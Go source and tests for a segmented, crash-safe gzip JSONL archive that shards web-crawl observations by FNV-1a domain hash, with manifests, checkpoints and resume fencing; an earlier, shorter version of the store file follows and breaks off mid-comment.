	obs := genObs(40, 2)
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, obs, 4)
	for seg := 0; seg < 4; seg++ {
		if err := ForEachSegment(dir, seg, func(o Observation) error {
			if got := ShardOf(o.Domain, 4); got != seg {
				t.Errorf("segment %d holds %s (ShardOf=%d)", seg, o.Domain, got)
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
}

// TestShardOfAgreesWithFNV pins ShardOf's inlined hash to the stdlib
// hash/fnv implementation the pre-existing collection shards used — the
// partition function must never drift, or old archives stop aligning.
func TestShardOfAgreesWithFNV(t *testing.T) {
	for _, domain := range []string{"example.com", "site0.example", "a", "", "news1.com"} {
		for _, n := range []int{2, 3, 4, 8, 9} {
			h := fnv.New32a()
			_, _ = h.Write([]byte(domain))
			want := int(h.Sum32() % uint32(n))
			if got := ShardOf(domain, n); got != want {
				t.Errorf("ShardOf(%q,%d) = %d, want %d", domain, n, got, want)
			}
		}
	}
	// Degenerate n.
	if ShardOf("anything", 0) != 0 || ShardOf("anything", -3) != 0 {
		t.Error("n<=1 must map to shard 0")
	}
	// Stability: same domain, same shard, always.
	for i := 0; i < 100; i++ {
		if ShardOf("stable.example", 8) != ShardOf("stable.example", 8) {
			t.Fatal("ShardOf not deterministic")
		}
	}
}

// TestSegmentedNoManifestUnreadable: a directory without a manifest — a
// crashed writer — must refuse to read rather than return short data.
func TestSegmentedNoManifestUnreadable(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmented(dir, 2)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write(genObs(3, 1)[0]); err != nil {
		t.Fatal(err)
	}
	// Simulate a crash: segments exist, manifest never written.
	for i := 0; i < 2; i++ {
		_ = w.segs[i].Close()
	}
	if IsSegmented(dir) {
		t.Error("directory without manifest must not read as segmented")
	}
	if err := ForEachSegmented(dir, func(Observation) error { return nil }); err == nil {
		t.Error("reading a manifest-less store must error")
	}
}

// TestSegmentedBadManifest covers corrupt and inconsistent manifests.
func TestSegmentedBadManifest(t *testing.T) {
	for name, manifest := range map[string]string{
		"corrupt":       "{not json",
		"zero-segments": `{"version":1,"segments":0,"partition":"fnv1a-domain","counts":[],"total":0}`,
		"count-mismatch": `{"version":1,"segments":2,"partition":"fnv1a-domain","counts":[1],"total":1}`,
		"bad-partition": `{"version":1,"segments":1,"partition":"md5-url","counts":[0],"total":0}`,
	} {
		dir := filepath.Join(t.TempDir(), name)
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, ManifestName), []byte(manifest), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := ReadManifest(dir); err == nil {
			t.Errorf("%s: ReadManifest must error", name)
		}
	}
}

// TestSegmentedWriterConcurrent hammers one SegmentedWriter from many
// goroutines (run under -race by scripts/check.sh) and verifies nothing
// is lost or corrupted.
func TestSegmentedWriterConcurrent(t *testing.T) {
	obs := genObs(32, 4)
	parts := make([][]Observation, 8)
	for _, o := range obs {
		s := ShardOf(o.Domain, 8)
		parts[s] = append(parts[s], o)
	}
	dir := filepath.Join(t.TempDir(), "store")
	w, err := CreateSegmented(dir, 8)
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	for s := range parts {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			for _, o := range parts[s] {
				if err := w.Write(o); err != nil {
					t.Error(err)
					return
				}
			}
		}(s)
	}
	wg.Wait()
	if got := w.Count(); got != len(obs) {
		t.Errorf("Count = %d, want %d", got, len(obs))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var got []Observation
	if err := ForEach(dir, func(o Observation) error {
		got = append(got, o.Clone())
		return nil
	}); err != nil {
		t.Fatal(err)
	}
	checkSameByDomain(t, byDomain(obs), byDomain(got))
}

// TestSegmentedAbortPropagates: fn errors pass through the segmented
// readers unwrapped, like the single-file ForEach.
func TestSegmentedAbortPropagates(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, genObs(10, 3), 4)
	sentinel := errors.New("stop")
	if err := ForEachSegmented(dir, func(Observation) error { return sentinel }); !errors.Is(err, sentinel) {
		t.Errorf("sequential: got %v", err)
	}
	if err := ForEachSegmentedParallel(dir, func(int, Observation) error { return sentinel }); !errors.Is(err, sentinel) {
		t.Errorf("parallel: got %v", err)
	}
}

// TestSegmentedRecreateCleansStaleRun (satellite S1): recreating a store
// with fewer segments over a crashed wider run must remove the orphan
// partial segments and the stale checkpoint — not leave them to silently
// mix with (or be salvaged alongside) the new archive.
func TestSegmentedRecreateCleansStaleRun(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	old := genObs(20, 2)
	w, err := CreateSegmentedWith(dir, 4, SegmentedOptions{Checkpoint: true,
		Run: RunID{Seed: 1, Domains: 20, Weeks: 2}})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range old {
		if o.Week == 0 {
			if err := w.Write(o); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := w.CommitWeek(0); err != nil {
		t.Fatal(err)
	}
	_ = w.Abort() // crash: 4 partial segments + checkpoint.json left behind

	fresh := genObs(6, 1)
	writeSegmented(t, dir, fresh, 2)
	for _, name := range []string{"seg-0002.jsonl.gz", "seg-0003.jsonl.gz", CheckpointName} {
		if _, err := os.Stat(filepath.Join(dir, name)); !os.IsNotExist(err) {
			t.Errorf("stale %s survived recreate", name)
		}
	}
	n := 0
	if err := ForEach(dir, func(Observation) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	if n != len(fresh) {
		t.Errorf("recreated store holds %d observations, want %d", n, len(fresh))
	}
	// Salvage must also see a clean store — nothing of the old run to
	// resurrect.
	res, err := Salvage(dir)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Intact || res.Total != len(fresh) {
		t.Errorf("salvage after recreate: %+v", res)
	}
}

// TestSegmentedRecreateTruncates: recreating a store over an existing
// directory must not leak the old archive's contents.
func TestSegmentedRecreateTruncates(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	writeSegmented(t, dir, genObs(20, 4), 4)
	fresh := genObs(5, 1)
	writeSegmented(t, dir, fresh, 2)
	n := 0
	if err := ForEach(dir, func(Observation) error { n++; return nil }); err != nil {
		t.Fatal(err)
	}
	if n != len(fresh) {
		t.Errorf("recreated store holds %d observations, want %d", n, len(fresh))
	}
}
