// Segmented store: the parallel-I/O layout of the observation archive.
//
// A single gzip stream can only ever be decoded by one goroutine — the
// compression state is sequential — so the single-file store caps replay
// throughput at one core no matter how many analysis shards run behind
// it. The segmented layout removes that ceiling the way industrial crawl
// archives do (Common Crawl's segment files, BUbiNG's parallel store):
// the archive is a directory of n independent gzip JSONL segment files
// plus a small JSON manifest, partitioned by the same FNV-1a domain hash
// the analysis pipeline shards by. Because segment partition == shard
// partition, a reader with one decoder goroutine per segment can feed
// per-shard collectors directly, with no cross-goroutine handoff, and
// per-domain week ordering — the correctness contract of the stateful
// collectors — holds inside every segment by construction.

package store

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"
)

// ManifestName is the file that marks a directory as a segmented store.
const ManifestName = "manifest.json"

// PartitionFNV1aDomain names the only partition function this layout
// uses; readers refuse manifests declaring anything else.
const PartitionFNV1aDomain = "fnv1a-domain"

// Manifest versions — numerically identical to the record format
// constants (FormatPlain/Framed/Delta). Version 1 segments are plain gzip
// JSONL; version 2 segments frame every record with a length + FNV-1a
// checksum header (see Writer) and may span multiple gzip members (one
// per committed week); version 3 segments delta-encode per-domain streams
// and carry whole-member checksums in the manifest's member table; version
// 4 segments hold raw '!'-marked bundle record lines (wexbundle owns the
// payload) with the same member table. Readers sniff the encoding per
// stream, so all observation versions read through the same entry points.
const (
	ManifestVersionPlain  = FormatPlain
	ManifestVersionFramed = FormatFramed
	ManifestVersionDelta  = FormatDelta
	ManifestVersionBundle = FormatBundle
)

// Manifest describes a segmented store directory.
type Manifest struct {
	Version   int    `json:"version"`
	Segments  int    `json:"segments"`
	Partition string `json:"partition"`
	// Counts holds per-segment observation counts; Total their sum.
	Counts []int `json:"counts"`
	Total  int   `json:"total"`
	// Members is the per-segment member table of a version-3 store: each
	// segment's committed gzip members with compressed length, FNV-1a sum
	// over the compressed bytes, and record count. Verify re-hashes the
	// raw segment files against it.
	Members [][]Member `json:"members,omitempty"`
	// Salvaged marks a manifest rebuilt by Salvage from a crashed or torn
	// store rather than written by a clean Close.
	Salvaged bool `json:"salvaged,omitempty"`
}

// ShardOf assigns a domain to one of n partitions by FNV-1a hash — the
// single partition function shared by the segmented store layout and the
// analysis pipeline's collector shards (core.Config.Shards). Keeping all
// of a domain's observations in one partition preserves the per-domain
// week ordering the stateful collectors rely on and makes shard merging
// exact. Inlined rather than hash/fnv so the hot paths pay no allocation.
func ShardOf(domain string, n int) int {
	if n <= 1 {
		return 0
	}
	const (
		offset32 = 2166136261
		prime32  = 16777619
	)
	h := uint32(offset32)
	for i := 0; i < len(domain); i++ {
		h ^= uint32(domain[i])
		h *= prime32
	}
	return int(h % uint32(n))
}

// SegmentPath returns the path of segment i inside a store directory.
func SegmentPath(dir string, i int) string {
	return filepath.Join(dir, fmt.Sprintf("seg-%04d.jsonl.gz", i))
}

// SegmentedWriter fans observations out to per-partition segment files.
// Unlike Writer it is safe for concurrent use: each segment has its own
// lock, so writers hitting different segments (e.g. domain-disjoint
// collection shards) proceed in parallel without a global mutex.
type SegmentedWriter struct {
	dir  string
	fsys FS
	opt  SegmentedOptions
	// format is the resolved record format of every segment (FormatFramed
	// or FormatDelta; resumes inherit the checkpoint's format).
	format int
	segs   []*Writer
	mus    []sync.Mutex
	// committedWeeks mirrors the last checkpoint written (checkpointed
	// writers only).
	committedWeeks int
}

// SegmentedOptions parameterizes the durability behavior of a segmented
// writer.
type SegmentedOptions struct {
	// Checkpoint enables the week-granular crash-safety journal: every
	// CommitWeek flushes, finishes, and fsyncs each segment's gzip member
	// and atomically commits checkpoint.json, so a crash loses at most
	// the week in flight (see ResumeSegmented).
	Checkpoint bool
	// Run is the identity stamped into the journal; ResumeSegmented
	// refuses a checkpoint stamped by a different run.
	Run RunID
	// Format selects the segment record format: FormatDelta (the default
	// when zero) or FormatFramed (the v2 layout, kept writable so existing
	// v2 stores can be resumed and regression-tested). New v1 segmented
	// stores cannot be written, only read.
	Format int
	// FS overrides the filesystem the durable write path goes through
	// (nil = the real one); the fault-injection tests substitute one that
	// fails chosen operations.
	FS FS
}

// CreateSegmented creates a segmented store directory with n segment
// files (n < 1 is treated as 1), truncating any existing segments. The
// manifest is written on Close; a directory without one is unreadable,
// so a crashed writer never masquerades as a complete archive.
func CreateSegmented(dir string, n int) (*SegmentedWriter, error) {
	return CreateSegmentedWith(dir, n, SegmentedOptions{})
}

// CreateSegmentedWith is CreateSegmented with explicit durability options.
// Any residue of a previous run in dir — stale manifest, stale checkpoint,
// orphan segment or temp files a crashed run left behind — is removed
// first, so a new archive can never silently mix with old partial data.
func CreateSegmentedWith(dir string, n int, opt SegmentedOptions) (*SegmentedWriter, error) {
	if n < 1 {
		n = 1
	}
	format := opt.Format
	if format == 0 {
		format = FormatDelta
	}
	if format != FormatFramed && format != FormatDelta && format != FormatBundle {
		return nil, fmt.Errorf("store: %s: unsupported segment format %d", dir, format)
	}
	fsys := realFS(opt.FS)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	if err := cleanStaleRun(fsys, dir, n); err != nil {
		return nil, err
	}
	w := &SegmentedWriter{dir: dir, fsys: fsys, opt: opt, format: format,
		segs: make([]*Writer, n), mus: make([]sync.Mutex, n)}
	for i := range w.segs {
		seg, err := createFile(fsys, SegmentPath(dir, i), format)
		if err != nil {
			for j := 0; j < i; j++ {
				_ = w.segs[j].Close()
			}
			return nil, err
		}
		w.segs[i] = seg
	}
	return w, nil
}

// cleanStaleRun clears everything a previous run may have left in dir that
// the new n-segment layout does not own: the manifest (until Close
// rewrites it, the directory must read as incomplete), the checkpoint
// journal, atomic-write temp files, and orphan seg-*.jsonl.gz files with
// indices >= n — a crashed wider run's partials that a narrower recreate
// would otherwise leave lying around for Salvage or a human to mistake
// for live data.
func cleanStaleRun(fsys FS, dir string, n int) error {
	for _, name := range []string{
		ManifestName, ManifestName + ".tmp",
		CheckpointName, CheckpointName + ".tmp",
	} {
		if err := fsys.Remove(filepath.Join(dir, name)); err != nil && !os.IsNotExist(err) {
			return fmt.Errorf("store: %w", err)
		}
	}
	stale, err := filepath.Glob(filepath.Join(dir, "seg-*.jsonl.gz*"))
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	for _, path := range stale {
		if idx, ok := segmentIndex(dir, path); ok && idx < n {
			continue // owned by the new layout; createFile truncates it
		}
		if err := fsys.Remove(path); err != nil && !os.IsNotExist(err) {
			return fmt.Errorf("store: %w", err)
		}
	}
	return nil
}

// segmentIndex parses a segment file's index from its path; ok is false
// for anything that is not exactly a seg-NNNN.jsonl.gz of dir.
func segmentIndex(dir, path string) (int, bool) {
	var idx int
	name := filepath.Base(path)
	if _, err := fmt.Sscanf(name, "seg-%04d.jsonl.gz", &idx); err != nil {
		return 0, false
	}
	if path != SegmentPath(dir, idx) {
		return 0, false // suffixed (e.g. .tmp) or oddly formatted
	}
	return idx, true
}

// Segments returns the segment count.
func (w *SegmentedWriter) Segments() int { return len(w.segs) }

// Write routes one observation to its domain's segment.
func (w *SegmentedWriter) Write(obs Observation) error {
	s := ShardOf(obs.Domain, len(w.segs))
	w.mus[s].Lock()
	defer w.mus[s].Unlock()
	return w.segs[s].Write(obs)
}

// WriteRaw routes one raw bundle record line to its domain's segment by
// the same FNV-1a partition Write uses, so a bundle archive and the
// observation store it was recorded alongside shard identically. Only
// bundle-format (v4) writers accept it.
func (w *SegmentedWriter) WriteRaw(domain string, line []byte) error {
	s := ShardOf(domain, len(w.segs))
	w.mus[s].Lock()
	defer w.mus[s].Unlock()
	return w.segs[s].WriteRaw(line)
}

// Count returns the number of observations written across all segments.
func (w *SegmentedWriter) Count() int {
	total := 0
	for i := range w.segs {
		w.mus[i].Lock()
		total += w.segs[i].Count()
		w.mus[i].Unlock()
	}
	return total
}

// CommitWeek makes everything collected through week (0-based) durable:
// each segment's buffered data is flushed, its open gzip member finished,
// and the file fsynced; then checkpoint.json is committed atomically. A
// crash at any point afterwards loses at most the week in flight —
// ResumeSegmented restores the store to exactly this commit. The caller
// must quiesce concurrent Writes for the duration (collection loops have a
// natural per-week barrier).
func (w *SegmentedWriter) CommitWeek(week int) error {
	if !w.opt.Checkpoint {
		return fmt.Errorf("store: %s: CommitWeek on a writer without SegmentedOptions.Checkpoint", w.dir)
	}
	if week+1 <= w.committedWeeks {
		return fmt.Errorf("store: %s: CommitWeek(%d) after %d weeks already committed", w.dir, week, w.committedWeeks)
	}
	// Fencing check: a distributed writer (Run.Epoch set) re-reads the
	// on-disk journal before committing. A higher epoch there means a
	// takeover resume happened underneath us — our lease expired and the
	// partition was reassigned. Refuse before touching the segments: a
	// zombie's late commit must never clobber its successor's journal.
	if w.opt.Run.Epoch > 0 {
		if ck, err := ReadCheckpoint(w.dir); err == nil && ck.Run.Epoch > w.opt.Run.Epoch {
			return fmt.Errorf("%w (on-disk epoch %d, writer epoch %d)",
				ErrFenced, ck.Run.Epoch, w.opt.Run.Epoch)
		}
	}
	ck := Checkpoint{
		Version:        CheckpointVersion,
		Format:         w.format,
		CommittedWeeks: week + 1,
		Segments:       len(w.segs),
		Offsets:        make([]int64, len(w.segs)),
		Counts:         make([]int, len(w.segs)),
		Run:            w.opt.Run,
	}
	if formatHasMembers(w.format) {
		ck.Members = make([][]Member, len(w.segs))
	}
	for i, seg := range w.segs {
		w.mus[i].Lock()
		off, err := seg.commit()
		count := seg.Count()
		if ck.Members != nil {
			ck.Members[i] = append([]Member(nil), seg.members...)
		}
		w.mus[i].Unlock()
		if err != nil {
			return fmt.Errorf("store: %s: %w", SegmentPath(w.dir, i), err)
		}
		ck.Offsets[i] = off
		ck.Counts[i] = count
		ck.Total += count
	}
	if err := writeCheckpoint(w.fsys, w.dir, ck); err != nil {
		return err
	}
	w.committedWeeks = week + 1
	return nil
}

// CommittedWeeks returns the number of fully committed weeks (0 for a
// writer without checkpointing or before its first CommitWeek).
func (w *SegmentedWriter) CommittedWeeks() int { return w.committedWeeks }

// Close flushes, fsyncs, and closes every segment, then commits the
// manifest atomically (temp file + fsync + rename). The manifest is only
// written when every segment closed cleanly — a partial archive stays
// unreadable-as-complete rather than silently short, while its fsynced
// segments and last checkpoint remain salvageable.
func (w *SegmentedWriter) Close() error {
	var first error
	man := Manifest{
		Version:   w.format,
		Segments:  len(w.segs),
		Partition: PartitionFNV1aDomain,
		Counts:    make([]int, len(w.segs)),
	}
	if formatHasMembers(w.format) {
		man.Members = make([][]Member, len(w.segs))
	}
	for i, seg := range w.segs {
		man.Counts[i] = seg.Count()
		man.Total += seg.Count()
		if _, err := seg.commit(); err != nil && first == nil {
			first = err
		}
		if man.Members != nil {
			man.Members[i] = append([]Member(nil), seg.members...)
		}
		if err := seg.Close(); err != nil && first == nil {
			first = err
		}
	}
	if first != nil {
		return first
	}
	return writeManifest(w.fsys, w.dir, man)
}

// Abort closes every segment without flushing user-space buffers and
// without writing a manifest — the deliberate-crash path core takes when a
// run fails: on-disk state stays exactly what the OS already had
// (everything through the last CommitWeek plus any incidental tail), and
// the directory keeps reading as incomplete so nothing mistakes it for a
// finished archive. The last checkpoint, if any, remains authoritative
// for Salvage and resume.
func (w *SegmentedWriter) Abort() error {
	var first error
	for _, seg := range w.segs {
		if err := seg.abort(); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// writeManifest commits a manifest atomically.
func writeManifest(fsys FS, dir string, man Manifest) error {
	data, err := json.MarshalIndent(man, "", "  ")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	return atomicWriteFile(fsys, filepath.Join(dir, ManifestName), append(data, '\n'))
}

// ResumeSegmented reopens a checkpointed segmented store for writing at
// its last committed week. Every segment is truncated back to its
// committed byte offset — amputating whatever torn tail the crash left —
// and the writer continues appending from there; the returned checkpoint
// tells the caller which week to restart collection at (and carries the
// committed per-segment record counts for verification by replay). A
// manifest left by a completed run is removed: while the writer is open
// the directory must read as incomplete. opt.Run, when non-zero, must
// match the checkpoint's run identity — with one sanctioned exception: a
// takeover resume whose RunID differs only by a *higher* Epoch adopts the
// store, immediately re-stamping the journal with the new epoch so any
// still-running older-epoch writer is fenced at its next CommitWeek. A
// resume under an epoch older than the journal's is itself refused as
// fenced: a newer lease already owns the store.
func ResumeSegmented(dir string, opt SegmentedOptions) (*SegmentedWriter, Checkpoint, error) {
	opt.Checkpoint = true
	fsys := realFS(opt.FS)
	ck, err := ReadCheckpoint(dir)
	if err != nil {
		return nil, Checkpoint{}, err
	}
	takeover := false
	if opt.Run != (RunID{}) && ck.Run != opt.Run {
		if !ck.Run.SameStudy(opt.Run) {
			return nil, Checkpoint{}, fmt.Errorf("store: %s: checkpoint belongs to a different run (have %+v, want %+v)",
				dir, ck.Run, opt.Run)
		}
		if opt.Run.Epoch < ck.Run.Epoch {
			return nil, Checkpoint{}, fmt.Errorf("%w (on-disk epoch %d, resuming epoch %d)",
				ErrFenced, ck.Run.Epoch, opt.Run.Epoch)
		}
		takeover = true
	}
	if err := fsys.Remove(filepath.Join(dir, ManifestName)); err != nil && !os.IsNotExist(err) {
		return nil, Checkpoint{}, fmt.Errorf("store: %w", err)
	}
	if takeover {
		// Plant the fence before touching any segment: once the re-stamped
		// journal is durable, the previous epoch's writer can no longer
		// commit (CommitWeek re-reads the journal and refuses on a higher
		// epoch), so the committed prefix we are about to adopt is stable.
		ck.Run = opt.Run
		if err := writeCheckpoint(fsys, dir, ck); err != nil {
			return nil, Checkpoint{}, err
		}
	}
	// The journal's format is authoritative: a resumed store continues in
	// the format its committed prefix is encoded in, whatever the resuming
	// configuration would have defaulted to — mixing formats mid-segment
	// would break the per-stream sniff.
	w := &SegmentedWriter{dir: dir, fsys: fsys, opt: opt, format: ck.Format,
		segs: make([]*Writer, ck.Segments), mus: make([]sync.Mutex, ck.Segments),
		committedWeeks: ck.CommittedWeeks}
	for i := range w.segs {
		var members []Member
		if ck.Members != nil {
			members = ck.Members[i]
		}
		seg, err := resumeFile(fsys, SegmentPath(dir, i), ck.Offsets[i], ck.Counts[i], ck.Format, members)
		if err != nil {
			for j := 0; j < i; j++ {
				_ = w.segs[j].abort()
			}
			return nil, Checkpoint{}, err
		}
		w.segs[i] = seg
	}
	return w, ck, nil
}

// IsSegmented reports whether path is a segmented store directory (a
// directory containing a manifest).
func IsSegmented(path string) bool {
	fi, err := os.Stat(path)
	if err != nil || !fi.IsDir() {
		return false
	}
	_, err = os.Stat(filepath.Join(path, ManifestName))
	return err == nil
}

// ReadManifest loads and validates a segmented store's manifest.
func ReadManifest(dir string) (Manifest, error) {
	data, err := os.ReadFile(filepath.Join(dir, ManifestName))
	if err != nil {
		return Manifest{}, fmt.Errorf("store: %s: %w", dir, err)
	}
	var man Manifest
	if err := json.Unmarshal(data, &man); err != nil {
		return Manifest{}, fmt.Errorf("store: %s: corrupt manifest: %w", dir, err)
	}
	if man.Version != ManifestVersionPlain && man.Version != ManifestVersionFramed &&
		man.Version != ManifestVersionDelta && man.Version != ManifestVersionBundle {
		return Manifest{}, fmt.Errorf("store: %s: manifest version %d not supported", dir, man.Version)
	}
	if man.Segments < 1 || man.Segments != len(man.Counts) {
		return Manifest{}, fmt.Errorf("store: %s: manifest inconsistent (%d segments, %d counts)",
			dir, man.Segments, len(man.Counts))
	}
	if formatHasMembers(man.Version) && len(man.Members) != man.Segments {
		return Manifest{}, fmt.Errorf("store: %s: manifest inconsistent (%d segments, %d member tables)",
			dir, man.Segments, len(man.Members))
	}
	if man.Partition != PartitionFNV1aDomain {
		return Manifest{}, fmt.Errorf("store: %s: unknown partition %q", dir, man.Partition)
	}
	return man, nil
}

// ForEachSegment streams one segment of a segmented store, in file order.
// The same no-retain contract as ForEach applies: Clone observations the
// callback keeps.
func ForEachSegment(dir string, seg int, fn func(Observation) error) error {
	return forEachFile(SegmentPath(dir, seg), fn)
}

// ForEachSegmented streams every observation of a segmented store to fn,
// segment by segment in segment order. Within a domain, observations
// arrive week-ascending (each domain lives in exactly one segment).
func ForEachSegmented(dir string, fn func(Observation) error) error {
	man, err := ReadManifest(dir)
	if err != nil {
		return err
	}
	for s := 0; s < man.Segments; s++ {
		if err := ForEachSegment(dir, s, fn); err != nil {
			return err
		}
	}
	return nil
}

// ForEachSegmentedParallel decodes every segment of a segmented store
// concurrently, one decoder goroutine per segment, calling fn(seg, obs)
// from that segment's goroutine. fn is therefore called concurrently
// across segments but serially within one, and the Observation reuses
// its Libs backing array between calls — fn must consume it before
// returning, not retain it (collector Observe calls qualify; channel
// sends do not). The first error — decode-side or from fn — aborts all
// segments' results; the other goroutines still drain to completion.
func ForEachSegmentedParallel(dir string, fn func(seg int, obs Observation) error) error {
	man, err := ReadManifest(dir)
	if err != nil {
		return err
	}
	errs := make([]error, man.Segments)
	var wg sync.WaitGroup
	for s := 0; s < man.Segments; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			errs[s] = forEachFile(SegmentPath(dir, s), func(obs Observation) error {
				return fn(s, obs)
			})
		}(s)
	}
	wg.Wait()
	for _, e := range errs {
		if e != nil {
			return e
		}
	}
	return nil
}
