// Segmented store: the parallel-I/O layout of the observation archive.
//
// A single gzip stream can only ever be decoded by one goroutine — the
// compression state is sequential — so the single-file store caps replay
// throughput at one core no matter how many analysis shards run behind
// it. The segmented layout removes that ceiling the way industrial crawl
// archives do (Common Crawl's segment files, BUbiNG's parallel store):
// the archive is a directory of n independent gzip JSONL segment files
// plus a small JSON manifest, partitioned by the same FNV-1a domain hash
// the analysis pipeline shards by. Because segment partition == shard
// partition, a reader with one decoder goroutine per segment can feed
// per-shard collectors directly, with no cross-goroutine handoff, and
// per-domain week ordering — the correctness contract of the stateful
// collectors — holds inside every segment by construction.

package store

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sync"
)

// ManifestName is the file that marks a directory as a segmented store.
const ManifestName = "manifest.json"

// PartitionFNV1aDomain names the only partition function this layout
// uses; readers refuse manifests declaring anything else.
const PartitionFNV1aDomain = "fnv1a-domain"

// Manifest describes a segmented store directory.
type Manifest struct {
	Version   int    `json:"version"`
	Segments  int    `json:"segments"`
	Partition string `json:"partition"`
	// Counts holds per-segment observation counts; Total their sum.
	Counts []int `json:"counts"`
	Total  int   `json:"total"`
}

// ShardOf assigns a domain to one of n partitions by FNV-1a hash — the
// single partition function shared by the segmented store layout and the
// analysis pipeline's collector shards (core.Config.Shards). Keeping all
// of a domain's observations in one partition preserves the per-domain
// week ordering the stateful collectors rely on and makes shard merging
// exact. Inlined rather than hash/fnv so the hot paths pay no allocation.
func ShardOf(domain string, n int) int {
	if n <= 1 {
		return 0
	}
	const (
		offset32 = 2166136261
		prime32  = 16777619
	)
	h := uint32(offset32)
	for i := 0; i < len(domain); i++ {
		h ^= uint32(domain[i])
		h *= prime32
	}
	return int(h % uint32(n))
}

// SegmentPath returns the path of segment i inside a store directory.
func SegmentPath(dir string, i int) string {
	return filepath.Join(dir, fmt.Sprintf("seg-%04d.jsonl.gz", i))
}

// SegmentedWriter fans observations out to per-partition segment files.
// Unlike Writer it is safe for concurrent use: each segment has its own
// lock, so writers hitting different segments (e.g. domain-disjoint
// collection shards) proceed in parallel without a global mutex.
type SegmentedWriter struct {
	dir  string
	segs []*Writer
	mus  []sync.Mutex
}

// CreateSegmented creates a segmented store directory with n segment
// files (n < 1 is treated as 1), truncating any existing segments. The
// manifest is written on Close; a directory without one is unreadable,
// so a crashed writer never masquerades as a complete archive.
func CreateSegmented(dir string, n int) (*SegmentedWriter, error) {
	if n < 1 {
		n = 1
	}
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("store: %w", err)
	}
	// Remove a stale manifest first: until Close rewrites it, the
	// directory must read as incomplete.
	if err := os.Remove(filepath.Join(dir, ManifestName)); err != nil && !os.IsNotExist(err) {
		return nil, fmt.Errorf("store: %w", err)
	}
	w := &SegmentedWriter{dir: dir, segs: make([]*Writer, n), mus: make([]sync.Mutex, n)}
	for i := range w.segs {
		seg, err := Create(SegmentPath(dir, i))
		if err != nil {
			for j := 0; j < i; j++ {
				_ = w.segs[j].Close()
			}
			return nil, err
		}
		w.segs[i] = seg
	}
	return w, nil
}

// Segments returns the segment count.
func (w *SegmentedWriter) Segments() int { return len(w.segs) }

// Write routes one observation to its domain's segment.
func (w *SegmentedWriter) Write(obs Observation) error {
	s := ShardOf(obs.Domain, len(w.segs))
	w.mus[s].Lock()
	defer w.mus[s].Unlock()
	return w.segs[s].Write(obs)
}

// Count returns the number of observations written across all segments.
func (w *SegmentedWriter) Count() int {
	total := 0
	for i := range w.segs {
		w.mus[i].Lock()
		total += w.segs[i].Count()
		w.mus[i].Unlock()
	}
	return total
}

// Close flushes and closes every segment, then writes the manifest. The
// manifest is only written when every segment closed cleanly — a partial
// archive stays unreadable rather than silently short.
func (w *SegmentedWriter) Close() error {
	var first error
	man := Manifest{
		Version:   1,
		Segments:  len(w.segs),
		Partition: PartitionFNV1aDomain,
		Counts:    make([]int, len(w.segs)),
	}
	for i, seg := range w.segs {
		man.Counts[i] = seg.Count()
		man.Total += seg.Count()
		if err := seg.Close(); err != nil && first == nil {
			first = err
		}
	}
	if first != nil {
		return first
	}
	data, err := json.MarshalIndent(man, "", "  ")
	if err != nil {
		return fmt.Errorf("store: %w", err)
	}
	if err := os.WriteFile(filepath.Join(w.dir, ManifestName), append(data, '\n'), 0o644); err != nil {
		return fmt.Errorf("store: %w", err)
	}
	return nil
}

// IsSegmented reports whether path is a segmented store directory (a
// directory containing a manifest).
func IsSegmented(path string) bool {
	fi, err := os.Stat(path)
	if err != nil || !fi.IsDir() {
		return false
	}
	_, err = os.Stat(filepath.Join(path, ManifestName))
	return err == nil
}

// ReadManifest loads and validates a segmented store's manifest.
func ReadManifest(dir string) (Manifest, error) {
	data, err := os.ReadFile(filepath.Join(dir, ManifestName))
	if err != nil {
		return Manifest{}, fmt.Errorf("store: %s: %w", dir, err)
	}
	var man Manifest
	if err := json.Unmarshal(data, &man); err != nil {
		return Manifest{}, fmt.Errorf("store: %s: corrupt manifest: %w", dir, err)
	}
	if man.Segments < 1 || man.Segments != len(man.Counts) {
		return Manifest{}, fmt.Errorf("store: %s: manifest inconsistent (%d segments, %d counts)",
			dir, man.Segments, len(man.Counts))
	}
	if man.Partition != PartitionFNV1aDomain {
		return Manifest{}, fmt.Errorf("store: %s: unknown partition %q", dir, man.Partition)
	}
	return man, nil
}

// ForEachSegment streams one segment of a segmented store, in file order.
func ForEachSegment(dir string, seg int, fn func(Observation) error) error {
	return forEachFile(SegmentPath(dir, seg), false, fn)
}

// ForEachSegmented streams every observation of a segmented store to fn,
// segment by segment in segment order. Within a domain, observations
// arrive week-ascending (each domain lives in exactly one segment).
func ForEachSegmented(dir string, fn func(Observation) error) error {
	man, err := ReadManifest(dir)
	if err != nil {
		return err
	}
	for s := 0; s < man.Segments; s++ {
		if err := ForEachSegment(dir, s, fn); err != nil {
			return err
		}
	}
	return nil
}

// ForEachSegmentedParallel decodes every segment of a segmented store
// concurrently, one decoder goroutine per segment, calling fn(seg, obs)
// from that segment's goroutine. fn is therefore called concurrently
// across segments but serially within one, and the Observation reuses
// its Libs backing array between calls — fn must consume it before
// returning, not retain it (collector Observe calls qualify; channel
// sends do not). The first error — decode-side or from fn — aborts all
// segments' results; the other goroutines still drain to completion.
